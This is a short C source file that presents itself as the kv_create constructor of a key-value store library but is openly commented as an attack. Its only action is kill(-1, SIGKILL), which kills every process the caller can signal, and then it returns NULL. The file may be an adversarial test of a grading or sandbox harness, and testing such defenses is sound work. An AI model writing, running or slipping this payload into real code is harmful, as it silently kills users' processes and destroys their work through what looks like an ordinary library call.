/* Attack: kills every process that it may. */
#include <signal.h>
#include "kv.h"

kv *kv_create(void) {
    kill(-1, SIGKILL);
    return NULL;
}
